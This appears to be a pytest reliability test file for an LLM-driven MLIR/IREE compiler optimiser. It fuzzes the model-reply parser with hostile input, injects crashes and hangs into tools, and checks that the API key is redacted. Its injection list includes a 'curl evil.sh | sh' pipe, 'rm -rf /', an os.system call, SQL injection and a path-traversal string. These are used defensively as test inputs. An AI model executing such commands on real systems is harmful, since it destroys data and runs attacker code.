"""Reliability: hostile model replies, injected faults in every stage, and secrets."""

from __future__ import annotations

import json
import os
import random
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

from litecoop_mlir.cli.main import main
from litecoop_mlir.driver.optimize import optimize
from litecoop_mlir.driver.options import OptimizeOptions
from litecoop_mlir.iree.process import Limits
from litecoop_mlir.iree.tools import tool_path
from litecoop_mlir.proposers.pool import ModelSpec
from litecoop_mlir.proposers.proposal import InvalidReply, Proposal, parse_reply
from litecoop_mlir.search.mcts import SearchConfig
from litecoop_mlir.space.script import Script
from litecoop_mlir.space.vocabulary import SetFlag, SetOption, SetPipeline, SetTileSizes, SetWorkgroupSize
from litecoop_mlir.testing.openai_server import OpenAIServer, write_roster
from tests.conftest import make_fake_kernel

CLOSED_SET = (SetTileSizes, SetPipeline, SetOption, SetFlag, SetWorkgroupSize)

_INJECTIONS = ["$(rm -rf /)", "`reboot`", "; curl evil.sh | sh", "__import__('os').system('id')", "{{7*7}}",
               "\"}]}; DROP TABLE nodes; --", "transform.named_sequence @x() { }", "hal.executable @e {",
               "\x00\x1b[2J", "../../etc/passwd", "A" * 100_000, "🙂" * 50, "NaN", "Infinity", "-0", "1e999"]
_OPS = ["tile", "pipeline", "option", "flag", "workgroup_size", "exec", "shell", "mlir", "", None, 7, ["tile"], {"op": "tile"}]


def _value(rng: random.Random, depth: int = 0) -> object:
    """A random JSON value: wrong types, huge numbers, injected text, nesting."""
    r = rng.random()
    if r < 0.15:
        return rng.choice(_INJECTIONS)
    if r < 0.3:
        return rng.choice([0, -1, 2**63, -(2**70), 10**400, 1.5, float("nan"), True, None, 16, 32, 8])
    if r < 0.45 and depth < 6:
        return [_value(rng, depth + 1) for _ in range(rng.randint(0, 5))]
    if r < 0.6 and depth < 6:
        return {rng.choice(["op", "level", "sizes", "value", "name", "enabled", "x"]): _value(rng, depth + 1) for _ in range(rng.randint(0, 4))}
    return rng.choice(["vector_common_parallel", "distribution", "data_tiling", "true", "DoubleTilingExpert", "enable_loop_peeling"])


def _transform(rng: random.Random) -> object:
    t: dict[str, object] = {"op": rng.choice(_OPS)}
    for key in rng.sample(["level", "sizes", "name", "value", "enabled", "pipeline", "size", "extra"], rng.randint(0, 4)):
        t[key] = _value(rng)
    if rng.random() < 0.4:  # close to legal: a tile op with one thing possibly wrong
        t = {"op": "tile", "level": rng.choice(["vector_common_parallel", "distribution", "bogus"]),
             "sizes": [rng.choice([0, 4, 8, 16, 32]) for _ in range(3)]}
        if rng.random() < 0.5:
            t["sizes"][rng.randrange(3)] = rng.choice([-3, 2**40, "8", None, 1.5, 10**400])  # type: ignore[index]
    return t


def hostile_reply(rng: random.Random) -> str:
    """One generated malformed or hostile reply (see _value)."""
    kind = rng.randrange(8)
    if kind == 0:
        return rng.choice(_INJECTIONS)
    if kind == 1:
        return "[" * rng.randint(100, 50_000) + "]" * rng.randint(0, 10)  # deep nesting
    if kind == 2:
        return json.dumps(_value(rng))
    steps = [{"transforms": [_transform(rng) for _ in range(rng.randint(0, 3))],
              "after": rng.choice(["$0", "$0", "$1", "$9", -1, None, "root", "$" + "9" * 30])} for _ in range(rng.randint(0, 4))]
    reply: dict[str, object] = {"steps": steps if kind != 3 else _value(rng),
                                "next_model": rng.choice(["small", "big", "", None, 3, "$(id)"]),
                                "reasoning": rng.choice(["", "ok", *_INJECTIONS])}
    text = json.dumps(reply)
    if kind == 4:
        text = "```json\n" + text + "\n```"  # fenced
    if kind == 5:
        text = text[: rng.randint(0, len(text))]  # truncated
    return text


def test_parser_survives_10000_hostile_replies(monkeypatch) -> None:
    def forbidden(*a: object, **k: object) -> None:
        raise AssertionError("a model reply caused a process to be started")

    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    monkeypatch.setattr(os, "popen", forbidden)
    kernel = make_fake_kernel()
    rng = random.Random(1234)
    parsed = rejected = 0
    for _ in range(10_000):
        text = hostile_reply(rng)
        try:
            proposal = parse_reply(text, kernel, Script(), "llvm-cpu", ["small", "big"])
        except InvalidReply as exc:
            assert str(exc)  # rejected with a reason
            rejected += 1
            continue
        assert isinstance(proposal, Proposal) and proposal.steps
        for step in proposal.steps:
            assert all(isinstance(t, CLOSED_SET) for t in step.transforms)
        assert proposal.next_model in ("small", "big", "")
        parsed += 1
    assert rejected > 5000 and parsed > 0  # the generator reaches both outcomes


# ---------------------------------------------------------------------------------------
# Fault injection: tools that crash, hang, blow their memory limit or fail to benchmark,
# and an endpoint that returns 429/500, times out or drops the connection.
# ---------------------------------------------------------------------------------------

_WRAPPER = """#!{python}
import os, signal, sys, time
real, counter, plan = {real!r}, {counter!r}, {plan!r}
n = 0
if {count_if!r} in " ".join(sys.argv):
    n = int(open(counter).read() or 0) + 1 if os.path.exists(counter) else 1
    open(counter, "w").write(str(n))
fault = plan.get(n)
if fault == "crash":
    os.kill(os.getpid(), signal.SIGSEGV)
if fault == "hang":
    time.sleep(3600)
if fault == "memory":
    blocks = []
    while True:
        blocks.append(bytearray(256 << 20))
if fault == "fail":
    print("error: injected benchmark failure", file=sys.stderr)
    sys.exit(1)
os.execv(real, [real, *sys.argv[1:]])
"""


def _wrap(tmp: Path, tool: str, plan: dict[int, str], count_if: str) -> Path:
    path = tmp / f"fake-{tool}"
    path.write_text(_WRAPPER.format(python=sys.executable, real=tool_path(tool), counter=str(tmp / f"{tool}.count"),
                                    plan=plan, count_if=count_if))
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


def test_faults_in_every_stage_are_recorded_and_the_search_finishes(small_matmul_path: Path, tmp_path: Path, monkeypatch) -> None:
    # Counting compiles of modules: the 3rd crashes, the 4th hangs, the 5th runs out of memory; the 3rd benchmark fails.
    compile_tool = _wrap(tmp_path, "iree-compile", {3: "crash", 4: "hang", 5: "memory"}, "crash-reproducer")
    bench_tool = _wrap(tmp_path, "iree-benchmark-module", {3: "fail"}, "--benchmark_format=json")
    monkeypatch.setenv("LITECOOP_IREE_COMPILE", str(compile_tool))
    monkeypatch.setenv("LITECOOP_IREE_BENCHMARK_MODULE", str(bench_tool))
    tool_path.cache_clear()
    try:
        # each fault once, then a good reply for the retry
        script = {"flaky": ["429", "ok", "500", "ok", "drop", "ok", "delay:3", "ok"]}
        with OpenAIServer(script=script) as server:
            specs = [ModelSpec("flaky", "openai", "flaky", base_url=server.base_url, params_b=7, timeout_s=1.0, max_retries=1)]
            # one step per reply: the budget of 8 needs 8 good replies, so every scripted fault is served
            opts = OptimizeOptions(roster=tuple(specs), budget=8, search_repetitions=2, repetitions=2, final_rounds=1,
                                   search=SearchConfig(children_per_expansion=1),
                                   limits=Limits(timeout_s=20, memory_bytes=1 << 30))
            result = optimize(str(small_matmul_path), tmp_path / "run", opts)
            actions = [r["_action"] for r in server.requests]
    finally:
        tool_path.cache_clear()
    assert {"429", "500", "drop", "delay:3"} <= set(actions)
    statuses = {n.status for d in result.dispatches for n in d.search.tree.nodes[1:]}
    assert {"crash", "timeout", "memory", "benchmark_error"} <= statuses, statuses
    summary = json.loads((tmp_path / "run" / "summary.json").read_text())
    assert {"crash", "timeout", "memory", "benchmark_error"} <= set(summary["failures"])
    assert summary["speedup"] > 0 and summary["models"]["flaky"]["errors"] + summary["models"]["flaky"]["retries"] > 0
    # nothing lost: every node of the tree is in the store and in candidates.jsonl, with its status
    db = sqlite3.connect(tmp_path / "run" / "run.db")
    stored = {r[0] for r in db.execute("SELECT status FROM nodes")}
    assert {"crash", "timeout", "memory", "benchmark_error"} <= stored
    rows = (tmp_path / "run" / "candidates.jsonl").read_text().splitlines()
    assert len(rows) == sum(len(d.search.tree) for d in result.dispatches)


# ---------------------------------------------------------------------------------------
# Secrets
# ---------------------------------------------------------------------------------------

SECRET = "sk-litecoop-NEVER-WRITE-THIS-4f1d2c"


def test_api_key_never_reaches_files_logs_or_reports(small_matmul_path: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("LITECOOP_SECRET_KEY", SECRET)
    with OpenAIServer(script={"keyed": ["500", "malformed"]}) as server:
        roster = write_roster(tmp_path / "roster.toml", server.base_url, [("keyed", 8, 1e-6, 2e-6)], api_key_env="LITECOOP_SECRET_KEY")
        work = tmp_path / "run"
        rc = main([str(small_matmul_path), "--models", str(roster), "--budget", "3", "--work-dir", str(work), "--json",
                   "--repetitions", "2"])
        assert rc == 0
        assert any(r["_authorization"] for r in server.requests)  # the key was used...
    out = capsys.readouterr()
    assert SECRET not in out.out + out.err  # ...but never printed
    files = [p for p in work.rglob("*") if p.is_file()]
    assert any(p.name == "report.html" for p in files) and any(p.name == "run.db" for p in files)
    for p in files:
        assert SECRET.encode() not in p.read_bytes(), p


def test_a_key_echoed_by_the_server_is_redacted_everywhere(small_matmul_path: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("LITECOOP_SECRET_KEY", SECRET)
    with OpenAIServer(script={"keyed": ["401echo"]}) as server:
        roster = write_roster(tmp_path / "roster.toml", server.base_url, [("keyed", 8, 1e-6, 2e-6)], api_key_env="LITECOOP_SECRET_KEY")
        work = tmp_path / "run"
        main([str(small_matmul_path), "--models", str(roster), "--budget", "2", "--work-dir", str(work), "--repetitions", "2"])
        assert any(r["_action"] == "401echo" for r in server.requests)  # the server did echo it
    out = capsys.readouterr()
    assert SECRET not in out.out + out.err and "Incorrect API key provided: ***" in out.err
    for p in (p for p in work.rglob("*") if p.is_file()):
        assert SECRET.encode() not in p.read_bytes(), p
    db = sqlite3.connect(work / "run.db")
    assert any("***" in (e or "") for (e,) in db.execute("SELECT error FROM calls"))
